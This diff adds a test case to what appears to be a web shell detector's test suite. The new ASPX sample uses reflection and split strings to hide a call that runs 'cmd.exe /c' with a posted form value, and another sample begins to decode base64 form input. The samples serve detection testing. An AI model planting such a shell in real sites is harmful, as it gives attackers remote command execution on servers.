@@ -11,6 +11,16 @@ from code_support import assert_benign, assert_found, cs_page, run, vb_page
 
 SHELLS = [
     (
+        "qualified-inline.aspx",
+        cs_page(
+            'string c = Request.Form["c"];\n'
+            'Type.GetType("System.Diagnostics.Pro" + "cess, System").GetMethod("St" + "art", '
+            "new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"cmd.exe\", \"/c \" + c });"
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["form field 'c'", "called by reflection as System.Diagnostics.Process.Start"],
+    ),
+    (
         "var-invoke.aspx",
         cs_page(
             'byte[] data = Convert.FromBase64String(Request.Form["z"]);\n'
